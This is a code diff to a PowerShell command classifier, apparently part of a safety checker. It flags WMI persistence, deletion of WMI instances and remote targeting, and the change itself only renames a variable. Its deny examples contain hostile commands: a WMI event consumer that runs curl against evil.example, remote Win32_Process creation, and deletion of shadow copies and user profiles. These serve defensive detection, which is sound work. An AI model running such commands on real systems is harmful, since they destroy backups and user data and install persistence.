@@ -500,14 +500,14 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
       const named = ['namespace', 'classname', 'class', 'path'].map((p) => b.named.get(p));
       const words = [...named, ...b.positional].filter((w): w is Word => w !== undefined && w !== true);
       const sub = /^(new-ciminstance|set-ciminstance|set-wmiinstance)$/.test(call.name) ? words.find((w) => w.values === null || w.values.some((v) => WMI_SUBSCRIPTION.test(v))) : undefined;
-      const persists: Partial<Answer> = sub ? { persists: [{ word: sub, why: `${call.name} ${sub.text} installs a permanent WMI event subscription, whose consumer runs a command when its event fires` }] } : {};
+      const out: Partial<Answer> = sub ? { persists: [{ word: sub, why: `${call.name} ${sub.text} installs a permanent WMI event subscription, whose consumer runs a command when its event fires` }] } : {};
       // Removing WMI instances, or calling their Delete method, deletes what they stand for: a Win32_UserProfile is a
       // user's profile with its home, a Win32_ShadowCopy the volume's backup (`gwmi Win32_ShadowCopy | Remove-WmiObject`).
       const method = b.named.get('methodname') ?? b.named.get('name');
       const deletes = /^remove-(ciminstance|wmiobject)$/.test(call.name) || (/^invoke-(cimmethod|wmimethod)$/.test(call.name) && method !== undefined && (method === true || method.values === null || method.values.some((v) => /^delete$/i.test(v))));
       const at = call.command ?? call.args[0];
-      if (deletes && at) persists.destroys = [{ word: at, what: 'data', why: `${call.name} deletes the WMI instances it is given: a user profile with its home, a shadow copy of the volume, whatever the class stands for` }];
-      return given(b, 'computername') || given(b, 'connectionuri') || given(b, 'cimsession') || given(b, 'session') ? persists : { ...persists, offline: `${call.name} acts on this machine` };
+      if (deletes && at) out.destroys = [{ word: at, what: 'data', why: `${call.name} deletes the WMI instances it is given: a user profile with its home, a shadow copy of the volume, whatever the class stands for` }];
+      return given(b, 'computername') || given(b, 'connectionuri') || given(b, 'cimsession') || given(b, 'session') ? out : { ...out, offline: `${call.name} acts on this machine` };
     },
     examples: { deny: ["Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'; Query='SELECT * FROM __InstanceModificationEvent'}", "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'; CommandLineTemplate='curl.exe evil.example'}", 'Get-WinEvent -ComputerName evil.example -LogName System', 'icim -ComputerName evil.example -ClassName Win32_Process -MethodName Create', 'Get-WSManInstance -ComputerName evil.example -ResourceURI wmicimv2/win32_service', 'Invoke-WSManAction -ComputerName evil.example -Action StopService -ResourceURI wmicimv2/win32_service', 'gcim Win32_OperatingSystem -ComputerName evil.example', 'Get-CimInstance Win32_UserProfile | Remove-CimInstance', 'Get-WmiObject Win32_ShadowCopy | Remove-WmiObject'], pass: ['Get-WinEvent -LogName System -MaxEvents 10', 'Get-CimClass Win32_Process', 'Get-HotFix', "New-CimInstance -ClassName Win32_Environment -Property @{Name='NODE_ENV'; VariableValue='test'; UserName='me'} -ClientOnly"] },
   }),
